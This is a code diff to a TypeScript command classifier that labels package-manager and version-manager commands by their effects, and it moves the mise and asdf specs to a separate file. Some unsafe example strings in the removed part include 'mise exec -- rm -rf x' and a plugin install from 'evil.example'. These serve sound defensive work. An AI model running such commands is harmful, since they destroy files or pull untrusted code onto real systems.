@@ -1,13 +1,17 @@
 /** Package managers of operating systems, and version managers for tools. */
 import { each, fixed, given, line, network, runs, task, texts } from "./makers.ts";
-import { installs, removes, runsBehind, wholly } from "./packages-effects.ts";
+import { installs, removes, wholly } from "./packages-effects.ts";
+import { packagesTools } from "./packages-tools.ts";
 import type { CommandSpec, EffectMaker, ProgramSpec } from "./spec.ts";
 
 const APT_FLAGS =
   "-y --yes --assume-yes -q -qq --quiet -f --fix-broken -m --fix-missing --no-install-recommends --install-recommends --reinstall --only-upgrade --allow-downgrades --allow-unauthenticated --force-yes -s --simulate --dry-run --purge --auto-remove --autoremove -d --download-only --no-upgrade --allow-change-held-packages --allow-releaseinfo-change -u -V --show-upgraded";
+
 const APT_VALUES = texts("-t --target-release");
+
 /** `-o` and `-c` can name programs that apt then runs. */
 const APT_RUNS = "-o --option -c --config-file";
+
 const aptSpec = (spec: CommandSpec): CommandSpec => ({
   flags: APT_FLAGS,
   values: { ...APT_VALUES, "-o": "text", "--option": "text", "-c": "read", "--config-file": "read" },
@@ -15,6 +19,7 @@ const aptSpec = (spec: CommandSpec): CommandSpec => ({
   operands: "text",
   ...spec,
 });
+
 const aptLooks = aptSpec({
   flags: `${APT_FLAGS} --installed --upgradable --upgradeable --all-versions -a --names-only -n --full`,
 });
@@ -43,6 +48,7 @@ const apt: Record<string, CommandSpec> = {
 };
 
 const addsSource = fixed("package", "change", "where system packages come from");
+
 const systemPackage = installs(null, "a system package");
 
 /** `pacman -Q…` asks the local database; everything else changes it or fetches. */
@@ -59,7 +65,6 @@ const pacman: EffectMaker = (use) => {
 };
 
 const brewNet = network("formulae.brew.sh", false);
-const trusted: EffectMaker = runs("helper", "the project's own configuration may run code");
 
 export const packagesSystem: readonly ProgramSpec[] = [
   {
@@ -293,89 +298,5 @@ export const packagesSystem: readonly ProgramSpec[] = [
     always: [addsSource, fixed("security", "change", "whose packages are trusted")],
     examples: { safe: [], unsafe: [["add-apt-repository ppa:x/y", "package"]] },
   },
-  {
-    names: ["mise", "rtx"],
-    style: "posix",
-    flags: "--version -V --help -h -q --quiet -v --verbose -y --yes --silent",
-    values: { "-C": "cwd", "--cd": "cwd", ...texts("-E --env -j --jobs") },
-    operands: { max: 0 },
-    commands: {
-      ...each(
-        "run r",
-        wholly((use) => [{ do: "run", program: "mise", what: "task", task: line(use.operands), detail: "mise task" }]),
-      ),
-      ...each("exec x", {
-        style: "words",
-        operands: "text",
-        read: (use) => {
-          const dashes = use.operands.findIndex((word) => word.value === "--");
-          const command = use.operands.findIndex((word) => word.value === "-c" || word.value === "--command");
-          const effect = {
-            do: "run",
-            program: "mise",
-            what: "task",
-            task: `exec ${line(use.operands)}`,
-            detail: "in the project's environment",
-          } as const;
-          const code = command < 0 ? undefined : use.operands[command + 1]?.value;
-          if (code) return { understood: true, effects: [effect], inner: [{ kind: "script", code, via: "mise exec" }] };
-          return dashes < 0
-            ? { understood: false, why: "mise exec without --", effects: [effect] }
-            : {
-                understood: true,
-                effects: [effect],
-                inner: [{ kind: "words", words: use.operands.slice(dashes + 1), via: "mise exec", moreWords: false }],
-              };
-        },
-      }),
-      ...each(
-        "ls list current where which bin-paths doctor tasks t env settings config version ls-remote",
-        wholly(trusted),
-      ),
-      ...each(
-        "install i use u upgrade up uninstall rm prune plugins plugin",
-        wholly(fixed("package", "change", "tools"), trusted, network(null, false)),
-      ),
-      ...each("trust untrust", wholly(fixed("security", "change", "a configuration that may run code is trusted"))),
-      ...each(
-        "activate deactivate set unset alias self-update implode reshim",
-        wholly(fixed("persist", "change", "tool versions or the shell")),
-      ),
-      ...each("watch w", wholly(task("mise task"))),
-      "*": wholly((use) => [
-        { do: "run", program: "mise", what: "task", task: line(use.operands), detail: "mise task" },
-      ]),
-    },
-    examples: {
-      safe: ["mise --version"],
-      unsafe: [
-        ["mise run test -- -run TestX", "run"],
-        ["mise exec -- rm -rf x", "delete"],
-        ["mise install", "package"],
-        ["mise trust", "security"],
-        ["mise ls", "run"],
-      ],
-    },
-  },
-  {
-    names: ["asdf"],
-    style: "posix",
-    flags: "--version --help",
-    operands: { max: 0 },
-    commands: {
-      ...each("list current where which info version", { style: "words", operands: "text", always: [trusted] }),
-      exec: { launcher: true, style: "words", operands: "text", read: runsBehind("", "", "asdf exec") },
-      ...each(
-        "install uninstall plugin plugin-add global local shell set latest reshim update",
-        wholly(fixed("package", "change", "tools"), network(null, false), task("plugins are code")),
-      ),
-    },
-    examples: {
-      safe: ["asdf --version"],
-      unsafe: [
-        ["asdf install nodejs 20", "package"],
-        ["asdf plugin add x https://evil.example/x", "package"],
-      ],
-    },
-  },
+  ...packagesTools,
 ];
